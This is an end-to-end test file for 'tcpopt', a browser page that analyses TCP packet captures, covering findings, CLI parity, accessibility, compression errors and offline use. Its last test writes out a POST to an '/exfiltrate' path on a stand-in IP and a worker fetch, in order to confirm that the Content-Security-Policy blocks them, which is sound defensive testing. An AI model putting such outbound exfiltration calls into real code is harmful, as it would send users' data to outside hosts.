// End-to-end tests of the page built by trunk (www/dist), in headless system Chromium.
// Run: node e2e.mjs  (scripts/test-web.sh builds the page first). Env: DIST, CAPTURES, TCPOPT_BIN, OUT.
import test from 'node:test';
import assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';
import zlib from 'node:zlib';
import { execFileSync } from 'node:child_process';
import { fileURLToPath } from 'node:url';
import { serve, launch } from './browser.mjs';

const here = path.dirname(fileURLToPath(import.meta.url));
const root = path.resolve(here, '../..');
const DIST = process.env.DIST || path.join(root, 'www/dist');
const CAPTURES = process.env.CAPTURES || path.resolve(root, '../shared/captures/netns');
const OUT = process.env.OUT || path.join(root, 'test-output');
const TCPOPT = process.env.TCPOPT_BIN || path.join(root, 'target/release/tcpopt');
fs.mkdirSync(OUT, { recursive: true });
const tmp = fs.mkdtempSync(path.join(OUT, 'e2e-'));

const { server, origin } = await serve(DIST);
const { context, close } = await launch();
const page = await context.newPage();
const offOrigin = [];
const seen = new Set();
const watch = (req) => {
  const u = req.url();
  seen.add(u);
  if (!(u.startsWith(origin + '/') || u.startsWith('blob:') || u.startsWith('data:'))) offOrigin.push(u);
};
context.on('request', watch);
page.on('request', watch);
const pageErrors = [];
page.on('pageerror', (e) => pageErrors.push(e.message));
await page.goto(origin + '/');
await page.waitForFunction(() => document.getElementById('version').textContent !== '');

test.after(async () => { await close(); server.close(); fs.rmSync(tmp, { recursive: true, force: true }); });

/** Uploads a file through the input and waits until the page has rendered its outcome. */
async function upload(file) {
  const job = (await page.evaluate(() => window.tcpopt.job)) + 1;
  await page.setInputFiles('#file', file);
  await page.waitForFunction((j) => document.body.dataset.doneJob === String(j) || document.body.dataset.failJob === String(j),
    job, { timeout: 120000 });
  const r = await page.evaluate(() => ({
    verdict: document.getElementById('verdict-text').textContent,
    severity: document.getElementById('verdict').dataset.severity,
    resultsHidden: document.getElementById('results').hidden,
    error: document.getElementById('error').hidden ? '' : document.getElementById('error').textContent,
    captureErrors: document.getElementById('capture-errors').textContent,
    verdictLine: document.getElementById('verdict-text').lastChild?.textContent ?? '',
    captureLine: document.getElementById('capture-summary').textContent,
    clockLines: [...document.querySelectorAll('#clock-lines li')].map((li) => li.textContent),
    codes: [...document.querySelectorAll('#findings li[data-code]')].map((li) => ({
      code: li.dataset.code, frames: li.querySelector('.frames')?.textContent || '',
      filter: li.querySelector('.filter')?.textContent || '' })),
    flows: document.querySelectorAll('#flows tbody tr').length,
  }));
  for (const c of r.codes) c.frames = frameList(c.frames);
  return r;
}

/** "11-14, 25" -> [11, 12, 13, 14, 25] (the page and the CLI list frames with runs compressed). */
function frameList(text) {
  const out = [];
  for (const part of text.split(',').map((x) => x.trim()).filter(Boolean)) {
    const [a, b] = part.split('-').map(Number);
    for (let f = a; f <= (b ?? a); f++) out.push(f);
  }
  return out;
}

const RANK = { ok: 0, info: 1, warning: 2, critical: 3 };
const captures = fs.readdirSync(CAPTURES).filter((f) => /\.pcap(ng)?$/.test(f)).sort();

test('the netns captures: verdict, expected findings and their frames', async (t) => {
  assert.ok(captures.length >= 5, `captures found in ${CAPTURES}`);
  for (const name of captures) {
    await t.test(name, async () => {
      const truthFile = path.join(CAPTURES, name.replace(/\.pcap(ng)?$/, '.truth.json'));
      const truth = JSON.parse(fs.readFileSync(truthFile, 'utf8')).expected_findings?.[name];
      assert.ok(truth, `expected_findings for ${name}`);
      const r = await upload(path.join(CAPTURES, name));
      assert.equal(r.error, '', 'no error shown');
      assert.equal(r.resultsHidden, false);
      assert.ok(r.verdict.trim().length > 10, `a verdict: ${r.verdict}`);
      for (const must of truth.must) {
        const f = r.codes.find((c) => c.code === must.code);
        assert.ok(f, `${must.code} shown (got ${r.codes.map((c) => c.code).join(', ')})`);
        for (const fr of must.frames_include) assert.ok(f.frames.includes(fr), `${must.code}: frame ${fr} listed`);
        if (must.frames_include.length) assert.match(f.filter, /^frame\.number (in \{|== )/);
      }
      for (const code of truth.must_not) assert.ok(!r.codes.some((c) => c.code === code), `${code} not shown`);
      assert.ok(RANK[r.severity] <= RANK[truth.max_severity], `severity ${r.severity} <= ${truth.max_severity}`);
      if (truth.must.length) assert.notEqual(r.severity, 'ok');
    });
  }
});

test('"Try a sample" analyses the bundled capture; screenshot', async () => {
  const job = (await page.evaluate(() => window.tcpopt.job)) + 1;
  await page.click('#sample');
  await page.waitForFunction((j) => document.body.dataset.doneJob === String(j), job, { timeout: 60000 });
  const codes = await page.$$eval('#findings li[data-code]', (l) => l.map((x) => x.dataset.code));
  assert.ok(codes.includes('TW_RECYCLE_PER_HOST_PAWS_DROP'), codes.join(','));
  assert.equal(await page.$eval('#verdict', (e) => e.dataset.severity), 'critical');
  const pairs = await page.$$eval('#pair option', (o) => o.length);
  assert.ok(pairs >= 1, 'a client/server pair to plot');
  await page.waitForTimeout(200);
  await page.screenshot({ path: path.join(OUT, 'sample.png'), fullPage: true });
  await page.setViewportSize({ width: 1280, height: 800 });
  await page.evaluate(() => window.scrollTo(0, 0));
  await page.screenshot({ path: path.join(OUT, 'sample-laptop.png') });
  await page.setViewportSize({ width: 1366, height: 900 });
});

test('accessibility: axe-core finds no WCAG 2 A/AA violation on the analysed sample', async () => {
  // axe is evaluated through the DevTools protocol (as a test tool, outside the page's CSP);
  // the page itself never loads it.
  const axeSource = fs.readFileSync(path.join(here, 'node_modules/axe-core/axe.min.js'), 'utf8');
  await page.evaluate(axeSource);
  await page.evaluate(() => { for (const d of document.querySelectorAll('#findings details')) d.open = true; });
  for (const colorScheme of ['light', 'dark']) {
    await page.emulateMedia({ colorScheme });
    const result = await page.evaluate(() => window.axe.run(document, { runOnly: ['wcag2a', 'wcag2aa', 'wcag21a', 'wcag21aa'] }));
    const v = result.violations.map((x) => `${x.id} (${x.impact}): ${x.nodes.slice(0, 3).map((n) => n.target.join(' ')).join(', ')}`);
    assert.deepEqual(v, [], colorScheme);
    assert.ok(result.passes.length > 10, 'axe ran its checks');
  }
  await page.emulateMedia({ colorScheme: 'light' });
});

test('exported JSON is the report, and equals `tcpopt analyze --format json`', async (t) => {
  const sample = path.join(CAPTURES, 'tw-recycle-drop.pcapng');
  const r = await upload(sample);
  assert.equal(r.error, '');
  const [dl] = await Promise.all([page.waitForEvent('download'), page.click('#export-json')]);
  const file = path.join(tmp, 'export.json');
  await dl.saveAs(file);
  const exported = JSON.parse(fs.readFileSync(file, 'utf8'));
  assert.ok(Array.isArray(exported.findings) && exported.verdict, 'report shape');
  const [md] = await Promise.all([page.waitForEvent('download'), page.click('#download-md')]);
  await md.saveAs(path.join(tmp, 'f.md'));
  const mdText = fs.readFileSync(path.join(tmp, 'f.md'), 'utf8');
  assert.match(mdText, /TW_RECYCLE_PER_HOST_PAWS_DROP/);
  assert.match(mdText, /frame\.number in \{/);
  if (!fs.existsSync(TCPOPT)) {
    if (process.env.CI) assert.fail(`no CLI at ${TCPOPT}: build it first (cargo build --release -p tcpopt)`);
    t.skip(`no CLI at ${TCPOPT}`); return;
  }
  const cliJson = (file) => {
    try { return JSON.parse(execFileSync(TCPOPT, ['analyze', '--format', 'json', file], { encoding: 'utf8' })); }
    // A non-zero status may only mean "findings present" (--fail-on); the JSON is still on stdout.
    catch (e) { return JSON.parse(e.stdout); }
  };
  assert.deepEqual(exported, cliJson(sample));
  // Every netns capture, a gzip- and a zstd-compressed one: the page's report is the CLI's.
  const gz = path.join(tmp, 'nat-two-clocks.pcap.gz');
  fs.writeFileSync(gz, zlib.gzipSync(fs.readFileSync(path.join(CAPTURES, 'nat-two-clocks.pcap'))));
  // zstd (Node has no zstd before v23): a fixture made with `zstd -19` from timewait-reuse.pcapng.
  const zst = path.join(here, 'fixtures/timewait-reuse.pcapng.zst');
  for (const file of [...captures.map((c) => path.join(CAPTURES, c)), gz, zst]) {
    const shown = await upload(file);
    const page_ = await page.evaluate(() => window.tcpopt.json());
    assert.deepEqual(JSON.parse(page_), cliJson(file), path.basename(file));
    // The table lists the report's flows (schema v2: the ones findings name), a page of 200 at a time.
    assert.equal(shown.flows, Math.min(200, JSON.parse(page_).flows.length), `${path.basename(file)}: flows table`);
    if (file === zst) {
      assert.match(JSON.parse(page_).capture.format, /zstd/);
      assert.ok(JSON.parse(page_).findings.some((f) => f.code === 'TIMEWAIT_SYN_REJECTED_OLD_TSVAL'));
    }
  }
});

/** `tcpopt analyze` text, as a support engineer sees it (no colour). */
function cliText(file) {
  try { return execFileSync(TCPOPT, ['analyze', '--color', 'never', file], { encoding: 'utf8' }); }
  // A non-zero status may only mean "findings present" or "partial"; the text is still on stdout.
  catch (e) { return e.stdout; }
}

/** The computed lines of the CLI's text report: verdict, capture line, filters, clock lines. */
function cliLines(text) {
  const lines = text.split('\n');
  const after = (p) => lines.find((l) => l.startsWith(p))?.slice(p.length);
  const filters = lines.filter((l) => l.startsWith('  wireshark: ')).map((l) => l.slice('  wireshark: '.length));
  const clocks = [];
  const start = lines.indexOf('Clocks:');
  if (start >= 0) {
    for (const l of lines.slice(start + 1)) {
      if (!l.startsWith('  ')) break;
      // A wrapped pair line continues on lines with the same indent: a new pair starts with "a -> b:".
      if (/^ {2}\S+ -> \S+: /.test(l)) clocks.push(l.trim()); else clocks[clocks.length - 1] += ' ' + l.trim();
    }
  }
  return { verdict: after('Verdict: '), capture: after('Capture: '), filters, clocks };
}

const norm = (s) => s.replace(/\s+/g, ' ').trim();
// tcpdump and real-world captures with findings (the smallest ones; each must still have one).
const CLI_PAGE_SAMPLE = fs.readFileSync(path.join(here, 'cli-page-captures.txt'), 'utf8').split('\n')
  .map((l) => l.replace(/#.*/, '').trim()).filter(Boolean).map((f) => path.resolve(CAPTURES, '..', f));

test('the page shows the verdict, percentages, Wireshark filters and clock-line labels the CLI prints', async (t) => {
  if (!fs.existsSync(TCPOPT)) {
    if (process.env.CI) assert.fail(`no CLI at ${TCPOPT}: build it first (cargo build --release -p tcpopt)`);
    t.skip(`no CLI at ${TCPOPT}`); return;
  }
  assert.ok(CLI_PAGE_SAMPLE.length >= 5, 'a sample of real captures');
  for (const file of [...captures.map((c) => path.join(CAPTURES, c)), ...CLI_PAGE_SAMPLE]) {
    await t.test(path.relative(path.resolve(CAPTURES, '..'), file), async () => {
      const cli = cliLines(cliText(file));
      const r = await upload(file);
      assert.equal(r.error, '', 'no error shown');
      assert.ok(cli.verdict, 'the CLI printed a verdict');
      assert.equal(r.verdictLine, cli.verdict, 'verdict');
      assert.equal(r.captureLine, cli.capture, 'capture line (percentage of segments with timestamps)');
      assert.deepEqual(r.codes.filter((c) => c.filter).map((c) => c.filter), cli.filters, 'Wireshark filters');
      assert.deepEqual(r.clockLines.map(norm), cli.clocks.slice(0, 50).map(norm), 'clock lines and their labels');
      if (CLI_PAGE_SAMPLE.includes(file)) assert.ok(r.codes.length > 0, 'the sample capture still has a finding');
    });
  }
});

test('drag and drop, and the Wireshark filter and Markdown copied to the clipboard', async () => {
  await context.grantPermissions(['clipboard-read', 'clipboard-write'], { origin });
  const job = (await page.evaluate(() => window.tcpopt.job)) + 1;
  await page.evaluate(async () => {
    const blob = await (await fetch('samples/tw-recycle-drop.pcapng')).blob();
    const dt = new DataTransfer();
    dt.items.add(new File([blob], 'dropped.pcapng'));
    const zone = document.getElementById('drop');
    zone.dispatchEvent(new DragEvent('dragover', { dataTransfer: dt, bubbles: true, cancelable: true }));
    zone.dispatchEvent(new DragEvent('drop', { dataTransfer: dt, bubbles: true, cancelable: true }));
  });
  await page.waitForFunction((j) => document.body.dataset.doneJob === String(j), job, { timeout: 30000 });
  const li = page.locator('#findings li[data-code="TW_RECYCLE_PER_HOST_PAWS_DROP"]');
  await li.locator('button', { hasText: 'Copy Wireshark filter' }).click();
  const filter = await page.evaluate(() => navigator.clipboard.readText());
  assert.match(filter, /^frame\.number in \{.*\b11\.\.14\b.*\}$/);
  assert.equal(filter, await li.locator('.filter').textContent());
  await page.click('#export-md');
  await page.waitForFunction(() => /copied/i.test(document.getElementById('export-status').textContent));
  const md = await page.evaluate(() => navigator.clipboard.readText());
  assert.match(md, /^## tcpopt: dropped\.pcapng/);
  assert.match(md, /\| critical \| `TW_RECYCLE_PER_HOST_PAWS_DROP` \|/);
});

test('a file that is not a capture: a clear error, then the next upload works', async () => {
  const junk = path.join(tmp, 'notes.txt');
  fs.writeFileSync(junk, 'These are my notes about the outage, not a capture.\n'.repeat(20));
  const r = await upload(junk);
  assert.match(r.error, /could not be read as a capture/);
  const ok = await upload(path.join(CAPTURES, 'nat-two-clocks.pcap'));
  assert.equal(ok.error, '');
  assert.ok(ok.codes.some((c) => c.code === 'MULTIPLE_TS_CLOCKS_BEHIND_IP'));
});

test('a truncated capture: partial report with the reason, then the next upload works', async () => {
  const full = fs.readFileSync(path.join(CAPTURES, 'tw-recycle-drop.pcapng'));
  const cut = path.join(tmp, 'cut.pcapng');
  fs.writeFileSync(cut, full.subarray(0, Math.floor(full.length * 0.6) + 7));
  const r = await upload(cut);
  assert.equal(r.resultsHidden, false, 'partial results shown');
  assert.match(r.captureErrors, /stopped early|truncated/i);
  assert.ok(r.flows > 0, 'flows from the part that was read');
  const ok = await upload(path.join(CAPTURES, 'timewait-reuse.pcapng'));
  assert.equal(ok.captureErrors, '');
  assert.ok(ok.codes.some((c) => c.code === 'TIMEWAIT_SYN_REJECTED_OLD_TSVAL'));
});

test('a corrupt gzip stream: an error shown, then the next upload works', async () => {
  const plain = fs.readFileSync(path.join(CAPTURES, 'nat-two-clocks.pcap'));
  // The first deflate block with the reserved block type 11: the stream is invalid at once.
  const gz = zlib.gzipSync(plain);
  gz[10] = 0x07;
  const bad = path.join(tmp, 'bad.pcap.gz');
  fs.writeFileSync(bad, gz);
  const r = await upload(bad);
  const shown = r.error + r.captureErrors;
  assert.match(shown, /gzip|deflate|compress/i, `the compression error is shown: ${shown}`);
  // Damage in the middle of the stream: the partial report, or the error, is shown.
  const gz2 = zlib.gzipSync(plain);
  for (let i = 200; i < 260; i++) gz2[i] ^= 0x5a;
  fs.writeFileSync(bad, gz2);
  const r2 = await upload(bad);
  assert.ok(r2.error !== '' || /stopped early/i.test(r2.captureErrors), `an error is shown: ${r2.error}${r2.captureErrors}`);
  const good = path.join(tmp, 'good.pcap.gz');
  fs.writeFileSync(good, zlib.gzipSync(plain));
  const ok = await upload(good);
  assert.equal(ok.error, '');
  assert.equal(ok.captureErrors, '');
  assert.ok(ok.codes.some((c) => c.code === 'MULTIPLE_TS_CLOCKS_BEHIND_IP'), 'gzip input analysed');
});

test('gzip through the browser\'s DecompressionStream (?gunzip=browser): the CLI\'s report, the engine again on a bad stream', async (t) => {
  if (!fs.existsSync(TCPOPT)) { t.skip(`no CLI at ${TCPOPT}`); return; }
  const cliJson = (file) => {
    try { return JSON.parse(execFileSync(TCPOPT, ['analyze', '--format', 'json', file], { encoding: 'utf8' })); } catch (e) { return JSON.parse(e.stdout); }
  };
  await page.goto(origin + '/?gunzip=browser');
  await page.waitForFunction(() => document.getElementById('version').textContent !== '');
  try {
    const plain = fs.readFileSync(path.join(CAPTURES, 'nat-two-clocks.pcap'));
    const half = plain.length >> 1;
    const files = {
      whole: zlib.gzipSync(plain),
      // Two gzip members (what `cat a.gz b.gz` gives): the CLI reads both.
      members: Buffer.concat([zlib.gzipSync(plain.subarray(0, half)), zlib.gzipSync(plain.subarray(half))]),
      // Cut in the middle: the CLI reports the cut stream and the packets before it.
      cut: zlib.gzipSync(plain).subarray(0, 3000),
    };
    for (const [name, bytes] of Object.entries(files)) {
      const f = path.join(tmp, `browser-gunzip-${name}.pcap.gz`);
      fs.writeFileSync(f, bytes);
      await upload(f);
      const timing = await page.evaluate(() => window.tcpopt.timing);
      assert.deepEqual(JSON.parse(await page.evaluate(() => window.tcpopt.json())), cliJson(f), name);
      console.log('# ?gunzip=browser', name, JSON.stringify({ gunzip: timing.gunzip, gunzipRetried: !!timing.gunzipRetried }));
      if (name === 'whole') assert.ok(timing.gunzip && !timing.gunzipRetried, `DecompressionStream used: ${JSON.stringify(timing)}`);
      if (name === 'cut') assert.ok(timing.gunzipRetried, `the engine read the cut stream again: ${JSON.stringify(timing)}`);
    }
    const bad = zlib.gzipSync(plain);
    bad[10] = 0x07;
    const badFile = path.join(tmp, 'browser-gunzip-bad.pcap.gz');
    fs.writeFileSync(badFile, bad);
    const r = await upload(badFile);
    assert.match(r.error + r.captureErrors, /gzip|deflate|compress/i, 'the compression error is shown');
    assert.ok((await page.evaluate(() => window.tcpopt.timing)).gunzipRetried, 'the engine gave the error');
  } finally {
    await page.goto(origin + '/');
    await page.waitForFunction(() => document.getElementById('version').textContent !== '');
  }
});

test('Cancel stops an analysis and the page keeps working', async () => {
  // A large-enough input that the cancel lands mid-way: the sample repeated.
  const big = path.join(tmp, 'big.pcap');
  const src = fs.readFileSync(path.join(CAPTURES, 'nat-two-clocks.pcap'));
  const body = src.subarray(24);
  const fd = fs.openSync(big, 'w');
  fs.writeSync(fd, src.subarray(0, 24));
  for (let i = 0; i < 6000; i++) fs.writeSync(fd, body);
  fs.closeSync(fd);
  await page.setInputFiles('#file', big);
  await page.waitForSelector('#progress:not([hidden])');
  await page.click('#cancel');
  assert.match(await page.textContent('#error'), /cancelled/i);
  const ok = await upload(path.join(CAPTURES, 'ipv6-clean.pcapng'));
  assert.equal(ok.error, '');
});

test('the clock plot draws 150,000 points without freezing (wheel zoom, drag, keys)', async () => {
  const ms = await page.evaluate(() => {
    const mk = (off, n) => { const p = new Float64Array(2 * n); for (let i = 0; i < n; i++) { p[2 * i] = 1e9 + i * 0.001; p[2 * i + 1] = off + i; } return p; };
    const pair = { key: 'x', lines: [0, 1, 2].map((k) => ({ label: `clock ${k}`, pts: mk(1e9 * (k + 1), 50000), unanswered: new Float64Array(0) })),
      unanswered: new Float64Array(0) };
    const t0 = performance.now();
    window.tcpopt.plot.setPair(pair);
    const t1 = performance.now();
    for (let i = 0; i < 5; i++) window.tcpopt.plot.zoom(0.8);
    window.tcpopt.plot.setMode('shared');
    window.tcpopt.plot.setMode('lanes');
    return { first: t1 - t0, eight: performance.now() - t1 };
  });
  console.log(`# plot: first draw of 150,000 points ${ms.first.toFixed(1)} ms, 8 redraws ${ms.eight.toFixed(1)} ms`);
  assert.ok(ms.first < 250, `first draw ${ms.first} ms`);
  assert.ok(ms.eight < 1500, `8 redraws ${ms.eight} ms`);
  const box = await page.locator('#plot').boundingBox();
  await page.mouse.move(box.x + box.width / 2, box.y + box.height / 2);
  await page.mouse.wheel(0, -200);
  await page.mouse.down(); await page.mouse.move(box.x + box.width * 0.7, box.y + box.height * 0.6); await page.mouse.up();
  await page.focus('#plot'); await page.keyboard.press('ArrowLeft'); await page.keyboard.press('0');
});

test('no request leaves the page origin; no uncaught page error', () => {
  // The watcher sees the worker's own fetches too (the wasm is fetched by the worker).
  assert.ok([...seen].some((u) => u.endsWith('_bg.wasm')), `worker requests observed: ${[...seen].join(' ')}`);
  assert.deepEqual(offOrigin, []);
  assert.deepEqual(pageErrors, []);
});

test('works offline once loaded: reload without a network, analyse the sample', async () => {
  await page.evaluate(() => navigator.serviceWorker.ready);
  // The first load happened before the service worker controlled the page; one online
  // reload fills its cache with everything the page and the worker fetch.
  await page.reload();
  await page.waitForFunction(() => document.getElementById('version').textContent !== '');
  await context.setOffline(true);
  try {
    await page.reload();
    await page.waitForFunction(() => document.getElementById('version').textContent !== '', null, { timeout: 15000 });
    const job = (await page.evaluate(() => window.tcpopt.job)) + 1;
    await page.click('#sample');
    await page.waitForFunction((j) => document.body.dataset.doneJob === String(j), job, { timeout: 30000 });
    const codes = await page.$$eval('#findings li[data-code]', (l) => l.map((x) => x.dataset.code));
    assert.ok(codes.includes('TW_RECYCLE_PER_HOST_PAWS_DROP'), codes.join(','));
  } finally {
    await context.setOffline(false);
  }
});

test('the Content-Security-Policy blocks a request to another origin, from the page and from the worker', async () => {
  const r = await page.evaluate(async () => {
    const violations = [];
    document.addEventListener('securitypolicyviolation', (e) => violations.push(e.violatedDirective));
    let fetched = 'no';
    try { await fetch('http://198.51.100.77/exfiltrate', { method: 'POST', body: 'x' }); fetched = 'yes'; } catch { fetched = 'blocked'; }
    const img = new Image(); img.src = 'http://198.51.100.77/pixel.gif';
    await new Promise((res) => { img.onerror = res; img.onload = res; setTimeout(res, 2000); });
    // A worker spun up from the page's own origin is bound by the same policy.
    const workerResult = await new Promise((res) => {
      const w = new Worker(URL.createObjectURL(new Blob(["fetch('http://198.51.100.77/w').then(() => postMessage('yes'), () => postMessage('blocked'))"], { type: 'text/javascript' })));
      w.onmessage = (e) => res(e.data); w.onerror = () => res('worker refused'); setTimeout(() => res('timeout'), 3000);
    });
    await new Promise((res) => setTimeout(res, 100));
    return { fetched, violations, workerResult };
  });
  assert.equal(r.fetched, 'blocked');
  assert.ok(r.violations.includes('connect-src'), JSON.stringify(r.violations));
  assert.ok(r.violations.includes('img-src'), JSON.stringify(r.violations));
  assert.notEqual(r.workerResult, 'yes', 'a worker cannot fetch another origin');
});
